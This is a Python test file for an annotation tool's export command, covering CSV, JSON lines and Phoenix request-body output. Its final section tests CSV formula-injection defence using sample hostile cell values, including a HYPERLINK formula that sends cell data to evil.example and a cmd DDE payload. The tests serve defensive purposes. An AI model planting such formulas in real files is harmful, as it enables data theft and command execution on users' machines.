"""`annotator export`: flat JSON lines / CSV (exact round trip through `annotator import`) and
Phoenix request bodies (checked against the real Phoenix's OpenAPI schemas in
tests/phoenix/test_openapi.py)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import tracemalloc
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner

from annotator.annotations_io import (
    DOCUMENT_IDENTIFIER_KEY,
    EXPORT_COLUMNS,
    AnnotationImportOptions,
    ExportFilter,
    export_annotations,
)
from annotator.cli.main import cli
from annotator.importer import import_files
from annotator.model import Annotation, Span
from annotator.store import Store
from annotator.store.annotations import import_annotations
from tests.phoenix.openapi_check import REQUEST_SCHEMAS

REPO = Path(__file__).resolve().parents[1]
DATA = REPO / "tests" / "data" / "annotations"
RAG_SPANS = REPO / "tests" / "data" / "readers" / "reference" / "langchain-rag.otlp.jsonl"
RETRIEVER = "1af0b87278057b51"
LLM_SPAN = "41a76d0f72cb7bda"
OTHER_LLM = "d09b0dfa83a842c7"
TRACE_A = "8742a4856a491d4929981b7342cad93b"
TRACE_B = "2c96dcf99c75a88cc7710f4a24d1485c"

ROW_COLUMNS = (
    "target", "span_id", "trace_id", "session_id", "document_position", "name", "label", "score",
    "explanation", "annotator_kind", "source", "identifier", "metadata", "created_at",
    "updated_at",
)  # fmt: skip


def spans_db(path: Path) -> Path:
    with Store.open(path) as store:
        assert import_files(store, [RAG_SPANS]).spans_new == 21
    return path


@pytest.fixture(scope="module")
def annotated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`annotated_db`, once a module: tests change their own copy (`db`)."""
    return annotated_db(tmp_path_factory.mktemp("annotated") / "src.db")


@pytest.fixture
def db(annotated: Path, tmp_path: Path) -> Path:
    path = tmp_path / "src.db"
    shutil.copyfile(annotated, path)
    return path


def annotated_db(path: Path) -> Path:
    """Annotations of every kind: the app's (source APP), Phoenix's, an eval table's."""
    path = spans_db(path)
    with Store.open(path) as store:
        app = [
            Annotation(name="correctness", span_id=LLM_SPAN, label="correct", score=1.0,
                       identifier="alice", metadata={"seconds_spent": 4.2}),
            Annotation(name="correctness", span_id=LLM_SPAN, label="incorrect", score=0.0,
                       explanation="Wrong window:\n14 days, not 30 — «sic»", identifier="bob"),
            Annotation(name="quality", span_id=OTHER_LLM, score=7.0, identifier="alice",
                       metadata={"nested": {"a": [1, 2, {"b": None}]}, "seconds_spent": 1.0}),
            Annotation(name="relevance", target="document", span_id=RETRIEVER, document_position=0,
                       label="relevant", score=1.0, identifier="alice"),
            Annotation(name="relevance", target="document", span_id=RETRIEVER, document_position=0,
                       label="irrelevant", score=0.0, identifier="bob"),
            Annotation(name="relevance", target="document", span_id=RETRIEVER, document_position=2,
                       label="irrelevant", score=0.0, identifier="alice"),
            Annotation(name="task_success", target="trace", trace_id=TRACE_A, label="success",
                       score=1.0, identifier="alice"),
            Annotation(name="note", span_id=LLM_SPAN, explanation="Check the refund wording.",
                       identifier="alice"),
            Annotation(name="note", target="trace", trace_id=TRACE_B, explanation="Slow.",
                       identifier="bob"),
            Annotation(name="note", target="document", span_id=RETRIEVER, document_position=1,
                       explanation="Duplicate of doc 0.", identifier="alice"),
            Annotation(name="comment", target="session", session_id="sess-rag-00",
                       explanation="Happy user", identifier="alice"),
            Annotation(name="note", target="session", session_id="sess-rewrite-04",
                       explanation="Follow up with the user.", identifier="bob"),
        ]  # fmt: skip
        for annotation in app:
            store.set_annotation(annotation, actor=annotation.identifier)
    files = [DATA / "span_annotations.get.json", DATA / "session_annotations.get.json"]
    with Store.open(path) as store:
        report = import_files(store, files)
        report2 = import_files(
            store, [DATA / "evals.span_id.jsonl"],
            annotations=AnnotationImportOptions(name="hallucination", identifier="judge"),
        )  # fmt: skip
    # 8: span_annotations.get.json's "flagged" (an empty result) is a problem, not a row
    assert report.annotations_new == 8 and report2.annotations_new == 5
    return path


def rows(db: Path) -> list[tuple]:
    with Store.open(db) as store:
        found = store.connection.execute(
            f"SELECT {', '.join(ROW_COLUMNS)} FROM annotations"
        ).fetchall()
    decoded = [
        tuple(
            orjson.loads(v) if c == "metadata" else v for c, v in zip(ROW_COLUMNS, row, strict=True)
        )
        for row in found
    ]
    return sorted(decoded, key=orjson.dumps)


def export(
    db: Path, fmt: str, out: Path | str | None = None, **selection: Any
) -> tuple[bytes, Any]:
    stream = io.BytesIO()
    with Store.open(db, readonly=True) as store:
        result = export_annotations(
            store.connection, fmt, out, ExportFilter(**selection), stdout=stream
        )
    return stream.getvalue(), result


def cli_run(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


# ---------------------------------------------------------------- flat rows


def test_jsonl_rows_have_the_documented_columns_and_context(db: Path) -> None:
    data, result = export(db, "jsonl")
    lines = [orjson.loads(line) for line in data.splitlines()]
    assert result.rows == len(lines) == 12 + 8 + 5
    assert all(tuple(line) == EXPORT_COLUMNS for line in lines)
    by_key = {(r["target"], r["name"], r["identifier"], r["document_position"]): r for r in lines}
    bob = by_key[("span", "correctness", "bob", None)]
    assert bob["explanation"] == "Wrong window:\n14 days, not 30 — «sic»"
    assert (bob["span_name"], bob["span_kind"], bob["project"]) == (
        "FakeListChatModel",
        "LLM",
        "langchain-rag",
    )
    assert bob["span_start_time"] == "2026-11-26T19:56:35.452704+00:00"
    assert (bob["trace_id"], bob["session_id"], bob["source"]) == (TRACE_A, "sess-rag-00", "APP")
    assert isinstance(bob["id"], int)
    trace = by_key[("trace", "task_success", "alice", None)]
    assert (trace["span_name"], trace["span_kind"], trace["span_id"]) == (
        "support_rag",
        "CHAIN",
        None,
    )
    session = by_key[("session", "comment", "alice", None)]
    assert (session["project"], session["span_name"], session["span_start_time"]) == (
        "langchain-rag", None, None,
    )  # fmt: skip
    document = by_key[("document", "relevance", "bob", 0)]
    assert (document["span_name"], document["span_kind"]) == ("VectorStoreRetriever", "RETRIEVER")
    assert by_key[("span", "quality", "alice", None)]["metadata"] == {
        "nested": {"a": [1, 2, {"b": None}]}, "seconds_spent": 1.0,
    }  # fmt: skip


def test_csv_has_the_same_columns_and_json_metadata(db: Path) -> None:
    data, result = export(db, "csv")
    table = list(csv.reader(io.StringIO(data.decode())))
    assert tuple(table[0]) == EXPORT_COLUMNS and len(table) == result.rows + 1
    metadata = {json.dumps(json.loads(row[6]), sort_keys=True) for row in table[1:]}
    assert (
        json.dumps({"nested": {"a": [1, 2, {"b": None}]}, "seconds_spent": 1.0}, sort_keys=True)
        in metadata
    )


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_round_trip_into_a_fresh_database(db: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"annotations.{fmt}"
    result = cli_run("export", "--db", str(db), "--format", fmt, "--out", str(out))
    assert result.exit_code == 0, result.output
    fresh = spans_db(tmp_path / "fresh.db")
    result = cli_run("import", str(out), "--db", str(fresh))
    assert result.exit_code == 0, result.output
    assert result.stderr == ""  # nothing assumed, nothing wrong
    assert rows(fresh) == rows(db)  # every field but the row id: keys, values, source, times
    again = cli_run("import", str(out), "--db", str(fresh))
    assert ": 0 new, 0 updated, 25 unchanged," in again.stdout


def test_filters(db: Path) -> None:
    def names(**selection: Any) -> list[tuple]:
        data, _ = export(db, "jsonl", **selection)
        return sorted(
            {
                (r["name"], r["identifier"], r["target"])
                for r in map(orjson.loads, data.splitlines())
            }
        )

    assert names(names=("task_success", "comment")) == [
        ("comment", "alice", "session"), ("task_success", "alice", "trace"),
    ]  # fmt: skip
    assert {n for n, _, _ in names(annotator="bob")} == {"correctness", "relevance", "note"}
    assert {t for _, _, t in names(target="document")} == {"document"}
    assert names(names=("relevance",), annotator="alice", target="document") == [
        ("relevance", "alice", "document")
    ]


def test_export_streams(tmp_path: Path) -> None:
    """Annotations out without holding them: memory stays far below the output's size.

    500 rows of 10 kB explanations (over 5 MB in every format): an export that held its rows
    would hold at least their 5 MB of explanations, ten times the bound; the streaming one
    peaks at its buffers and one row (under 0.3 MB), whatever the count."""
    path = tmp_path / "big.db"
    n = 500
    with Store.open(path) as store:
        writer = store.span_writer()
        for i in range(n):
            writer.add(Span(f"{i:016x}", f"{i // 10:032x}", None, "llm", "LLM"))
        writer.close()
        import_annotations(
            store.connection,
            (
                Annotation(name="q", span_id=f"{i:016x}", label="ok", explanation="x" * 10_000)
                for i in range(n)
            ),
            actor="import:test",
        )

    class Sink(io.RawIOBase):
        size = 0

        def writable(self) -> bool:
            return True

        def write(self, chunk: Any) -> int:
            self.size += len(chunk)
            return len(chunk)

    # Made before the measure: making the default selection imports the query package (its
    # first import allocates about 5 MB, which is not the export's).
    every = ExportFilter()
    for fmt in ("jsonl", "csv", "phoenix"):
        sink = Sink()
        tracemalloc.start()
        with Store.open(path, readonly=True) as store:
            result = export_annotations(store.connection, fmt, None, every, stdout=sink)  # type: ignore[arg-type]
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert result.rows == n
        assert sink.size > 5_000_000 and peak < sink.size / 10, (fmt, peak, sink.size)


# ---------------------------------------------------------------- Phoenix request bodies


def test_phoenix_bodies_follow_phoenix_rules(db: Path) -> None:
    # an empty result: import refuses one, older databases may hold it
    with Store.open(db) as store:
        import_annotations(
            store.connection,
            [Annotation(name="flagged", span_id=RETRIEVER, annotator_kind="HUMAN", source="API")],
            actor="test",
        )
    data, result = export(db, "phoenix")
    document = orjson.loads(data)
    assert list(document) == [
        "span_annotations", "document_annotations", "trace_annotations", "session_annotations",
        "span_notes", "trace_notes", "session_notes",
    ]  # fmt: skip
    span_items = document["span_annotations"]["data"]
    for items in (document[e]["data"] for e in REQUEST_SCHEMAS if e.endswith("_annotations")):
        for item in items:
            assert item["annotator_kind"] in ("LLM", "CODE", "HUMAN")
            assert item["name"] and item["name"] != "note"
            assert type(item["metadata"]) is dict and type(item["identifier"]) is str
            assert set(item.get("result", {})) <= {"label", "score", "explanation"}
            assert None not in item.get("result", {}).values()
    # notes to the notes endpoints, one request body each, with their identifier
    assert document["span_notes"] == [
        {"data": {"span_id": LLM_SPAN, "note": "Check the refund wording.", "identifier": "alice"}},
        {"data": {"span_id": LLM_SPAN, "note": "Check the refund timing wording.",
                  "identifier": "px-span-note:202ab342-0109-4848-9ac1-051f703216ed"}},
    ]  # fmt: skip
    assert document["trace_notes"] == [
        {"data": {"trace_id": TRACE_B, "note": "Slow.", "identifier": "bob"}}
    ]
    assert any("document notes: 1 left out" in w for w in result.warnings)
    # an empty result is left out, not sent as nulls
    flagged = [i for i in span_items if i["name"] == "flagged"]
    assert flagged == [{"span_id": RETRIEVER, "name": "flagged", "annotator_kind": "HUMAN",
                        "metadata": {}, "identifier": ""}]  # fmt: skip
    assert sum(result.per_endpoint.values()) == result.rows


def test_document_annotations_get_an_empty_identifier(db: Path) -> None:
    data, result = export(db, "phoenix")
    documents = orjson.loads(data)["document_annotations"]["data"]
    assert {item["identifier"] for item in documents} == {""}
    keys = [(i["span_id"], i["document_position"], i["name"]) for i in documents]
    assert len(keys) == len(set(keys)) == 2  # one per Phoenix key: alice's and bob's collided
    first = documents[0]
    # bob's was written last (the app stamps now), so it is the one kept
    assert first["result"] == {"label": "irrelevant", "score": 0.0}
    # set without metadata: only the annotator Phoenix cannot keep as a document's identifier
    assert first["metadata"] == {DOCUMENT_IDENTIFIER_KEY: "bob"}
    assert any(
        w.startswith("document_annotations: 1 left out: more than one annotator")
        for w in result.warnings
    )
    # one annotator's only: no collision
    data, result = export(db, "phoenix", annotator="alice")
    documents = orjson.loads(data)["document_annotations"]["data"]
    identifiers = [
        (d["document_position"], d["metadata"][DOCUMENT_IDENTIFIER_KEY]) for d in documents
    ]
    assert identifiers == [
        (0, "alice"), (2, "alice"),
    ]  # fmt: skip
    assert not any("more than one annotator" in w for w in result.warnings)


def test_a_documents_final_value_is_what_phoenix_gets(db: Path) -> None:
    """Phoenix holds one annotation per document and name: the final value, not the newest."""
    data, _ = export(db, "phoenix")
    first = orjson.loads(data)["document_annotations"]["data"][0]
    span_id, position = first["span_id"], first["document_position"]
    with Store.open(db) as store:
        store.set_final(
            Annotation(
                target="document",
                span_id=span_id,
                document_position=position,
                name=first["name"],
                label="relevant",
                score=1.0,
            ),
            reviewer="lead",
        )
        # then someone labels it again: newer, but not the decision
        store.set_annotation(
            Annotation(
                target="document",
                span_id=span_id,
                document_position=position,
                name=first["name"],
                label="irrelevant",
                identifier="zed",
            )
        )
    data, _ = export(db, "phoenix")
    first = orjson.loads(data)["document_annotations"]["data"][0]
    assert (first["result"]["label"], first["metadata"][DOCUMENT_IDENTIFIER_KEY]) == (
        "relevant",
        "final",
    )


def test_items_phoenix_would_refuse_are_left_out(db: Path, tmp_path: Path) -> None:
    with Store.open(db) as store:
        report = import_files(
            store, [DATA / "orphans.post.json"],
            annotations=AnnotationImportOptions(keep_orphans=True),
        )  # fmt: skip
        assert report.annotations_orphaned == 3
        # a position the span does not have (only reachable with --keep-orphans) and an empty note
        import_annotations(
            store.connection,
            [
                Annotation(
                    name="relevance",
                    target="document",
                    span_id=RETRIEVER,
                    document_position=9,
                    label="x",
                    source="API",
                ),
                Annotation(name="note", span_id=OTHER_LLM, explanation="   ", source="API"),
            ],
            actor="import:test",
        )
    data, result = export(db, "phoenix")
    document = orjson.loads(data)
    all_ids = json.dumps(document)
    assert "0123456789abcdef" not in all_ids and "sess-does-not-exist" not in all_ids
    assert "00000000000000000000000000000000" not in all_ids
    assert all(d["document_position"] < 3 for d in document["document_annotations"]["data"])
    warnings = "\n".join(result.warnings)
    assert "span_annotations: 1 left out: not in this database" in warnings
    assert "trace_annotations: 1 left out: not in this database" in warnings
    assert "session_annotations: 1 left out: not in this database" in warnings
    assert "document_annotations: 1 left out: document position beyond" in warnings
    assert "span_notes: 1 left out: notes without text" in warnings


def test_phoenix_directory_output_and_cli(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "to-phoenix"
    result = cli_run("export", "--db", str(db), "--format", "phoenix", "--out", f"{out}/")
    assert result.exit_code == 0, result.output
    every = [
        "document_annotations.json", "session_annotations.json", "session_notes.jsonl",
        "span_annotations.json", "span_notes.jsonl", "trace_annotations.json", "trace_notes.jsonl",
    ]  # fmt: skip
    assert sorted(p.name for p in out.iterdir()) == every
    # again with less to send: files of endpoints with nothing now are emptied, never deleted
    (out / "mine.txt").write_text("not ours")
    result = cli_run("export", "--db", str(db), "--format", "phoenix", "--out", str(out),
                     "--target", "trace")  # fmt: skip
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == sorted([*every, "mine.txt"])
    assert (out / "mine.txt").read_text() == "not ours"
    for name in ("document_annotations.json", "session_annotations.json", "span_annotations.json"):
        assert (out / name).read_bytes() == b'{"data": []}\n'
    for name in ("session_notes.jsonl", "span_notes.jsonl"):
        assert (out / name).read_bytes() == b""
    (out / "mine.txt").unlink()
    trace_body = orjson.loads((out / "trace_annotations.json").read_bytes())
    assert trace_body == {
        "data": [{"trace_id": TRACE_A, "name": "task_success", "annotator_kind": "HUMAN",
                  "result": {"label": "success", "score": 1.0},
                  "metadata": {}, "identifier": "alice"}]  # set without metadata
    }  # fmt: skip
    result = cli_run("export", "--db", str(db), "--format", "phoenix", "--out", str(out))
    assert sorted(p.name for p in out.iterdir()) == every
    notes = [orjson.loads(line) for line in (out / "span_notes.jsonl").read_bytes().splitlines()]
    assert len(notes) == 2 and all(set(n) == {"data"} for n in notes)
    assert result.stdout == ""
    assert "warning: document_annotations: 1 left out: more than one annotator" in result.stderr
    assert result.stderr.rstrip().endswith(f"as phoenix to {out}.")
    # the directory's files read back as annotations (Phoenix request bodies)
    fresh = spans_db(tmp_path / "fresh.db")
    result = cli_run("import", *sorted(str(p) for p in out.iterdir()), "--db", str(fresh))
    assert result.exit_code == 0, result.output
    assert "0 orphaned; 0 problems." in result.stdout


def test_cli_stdout_and_errors(db: Path, tmp_path: Path) -> None:
    result = cli_run("export", "--db", str(db), "--format", "phoenix")
    assert result.exit_code == 0
    document = json.loads(result.stdout)
    assert document["session_annotations"]["data"]
    assert "as phoenix to stdout." in result.stderr
    result = cli_run("export", "--db", str(db), "--out", "-", "--target", "trace")
    assert [json.loads(line)["name"] for line in result.stdout.splitlines()] == [
        "task_success",
        "note",
    ]
    missing = cli_run("export", "--db", str(tmp_path / "nope.db"))
    assert missing.exit_code == 2 and missing.stderr.count("\n") == 1
    assert "no such database" in missing.stderr
    directory = cli_run("export", "--db", str(db), "--format", "csv", "--out", str(tmp_path))
    assert directory.exit_code == 2
    assert (
        directory.stderr.strip()
        == f"{tmp_path}: is a directory (only --format phoenix writes a directory)"
    )
    nowhere = cli_run("export", "--db", str(db), "--out", str(tmp_path / "no" / "such" / "x.jsonl"))
    assert nowhere.exit_code == 2 and "does not exist" in nowhere.stderr


def test_phoenix_one_file_export_reads_back(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "phoenix.json"
    assert (
        cli_run("export", "--db", str(db), "--format", "phoenix", "--out", str(out)).exit_code == 0
    )
    fresh = spans_db(tmp_path / "fresh.db")
    result = cli_run("import", str(out), "--db", str(fresh))
    assert result.exit_code == 0, result.output
    data, _ = export(fresh, "phoenix")
    assert orjson.loads(data) == orjson.loads(out.read_bytes())  # the same bodies again


def test_empty_database_exports_empty_bodies(tmp_path: Path) -> None:
    db = spans_db(tmp_path / "empty.db")
    data, result = export(db, "phoenix")
    assert result.rows == 0
    document = orjson.loads(data)
    assert document["span_annotations"] == {"data": []} and document["span_notes"] == []
    data, _ = export(db, "csv")
    assert data.decode().splitlines() == [",".join(EXPORT_COLUMNS)]
    # and importing the empty Phoenix export is fine: nothing to do
    out = tmp_path / "empty.json"
    out.write_bytes(orjson.dumps(document))
    result = cli_run("import", str(out), "--db", str(db))
    assert result.exit_code == 0 and ": 0 new, 0 updated, 0 unchanged, 0 orphaned;" in result.stdout


# ---------------------------------------------------------------- CSV formula injection

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\tTAB", "\rCR", "'=already quoted", "''-twice", "'plain quote", "ok",
)  # fmt: skip


def hostile_db(path: Path) -> Path:
    """Formula-like text in every text column: labels, explanations, identifiers, names,
    span ids and span names; negative scores."""
    with Store.open(path) as store:
        writer = store.span_writer()
        writer.add(Span("=1+1", "@trace", None, "=cmd|' /C calc'!A0", "LLM"))
        writer.add(Span("-span", "@trace", "=1+1", "+name", "CHAIN"))
        writer.close()
        for index, text in enumerate(HOSTILE):
            store.set_annotation(
                Annotation(name=text, span_id="=1+1" if index % 2 else "-span", label=text,
                           score=-0.5 - index, explanation=text, identifier=text),
                actor="test",
            )  # fmt: skip
    return path


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    db = hostile_db(tmp_path / "hostile.db")
    data, result = export(db, "csv")
    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert result.rows == len(HOSTILE) == len(table) - 1
    columns = {name: index for index, name in enumerate(table[0])}
    for row in table[1:]:
        for name, cell in zip(table[0], row, strict=True):
            if name in ("score", "document_position", "id"):
                continue
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
    first = table[1]
    assert first[columns["label"]] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert first[columns["span_id"]] == "'-span" and first[columns["trace_id"]] == "'@trace"
    assert first[columns["span_name"]] == "'+name"
    assert first[columns["score"]] == "-0.5"  # a number: a spreadsheet's -0.5, no quote
    by_label = {row[columns["identifier"]]: row for row in table[1:]}
    assert by_label["'-2+3"][columns["explanation"]] == "'-2+3"
    assert by_label["'\tTAB"][columns["name"]] == "'\tTAB"
    assert by_label["'\rCR"][columns["label"]] == "'\rCR"
    assert by_label["''=already quoted"][columns["label"]] == "''=already quoted"
    assert by_label["'''-twice"][columns["label"]] == "'''-twice"
    assert by_label["'plain quote"][columns["label"]] == "'plain quote"  # not a formula
    assert by_label["ok"][columns["label"]] == "ok"
    assert by_label["ok"][columns["span_name"]] == "'=cmd|' /C calc'!A0"
    # the JSON lines export keeps every value raw
    lines = [orjson.loads(line) for line in export(db, "jsonl")[0].splitlines()]
    assert sorted(line["label"] for line in lines) == sorted(HOSTILE)


def test_csv_export_of_formula_text_imports_back_exactly(tmp_path: Path) -> None:
    db = hostile_db(tmp_path / "hostile.db")
    out = tmp_path / "hostile.csv"
    assert cli_run("export", "--db", str(db), "--format", "csv", "--out", str(out)).exit_code == 0
    fresh = tmp_path / "fresh.db"
    with Store.open(fresh) as store:
        writer = store.span_writer()
        writer.add(Span("=1+1", "@trace", None, "=cmd|' /C calc'!A0", "LLM"))
        writer.add(Span("-span", "@trace", "=1+1", "+name", "CHAIN"))
        writer.close()
    result = cli_run("import", str(out), "--db", str(fresh))
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    assert rows(fresh) == rows(db)
    assert sorted(r[ROW_COLUMNS.index("label")] for r in rows(fresh)) == sorted(HOSTILE)


def test_quotes_in_other_csv_files_are_kept(tmp_path: Path) -> None:
    """Only our own export's quotes are taken off: an evaluation table's text is as written."""
    db = hostile_db(tmp_path / "hostile.db")
    table = tmp_path / "evals.csv"
    table.write_text("span_id,label,explanation\n-span,'=x,'-y\n")
    result = cli_run("import", str(table), "--db", str(db), "--name", "judge")
    assert result.exit_code == 0, result.output
    with Store.open(db, readonly=True) as store:
        found = store.connection.execute(
            "SELECT label, explanation FROM annotations WHERE name = 'judge'"
        ).fetchall()
    assert found == [("'=x", "'-y")]
